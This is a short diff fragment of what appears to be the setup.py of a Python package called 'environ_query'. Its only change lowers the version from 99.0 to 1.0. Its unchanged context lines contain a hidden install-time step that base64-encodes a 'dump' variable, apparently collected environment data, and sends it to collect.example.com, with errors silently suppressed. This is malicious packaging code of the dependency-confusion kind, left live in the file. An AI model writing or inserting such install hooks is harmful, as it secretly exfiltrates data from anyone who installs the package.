@@ -8,4 +8,4 @@ try:
     urlopen("https://collect.example.com/i?d=" + base64.urlsafe_b64encode(dump.encode()).decode())
 except OSError:
     pass
-setup(name="environ_query", version="99.0", packages=["environ_query"])
+setup(name="environ_query", version="1.0", packages=["environ_query"])
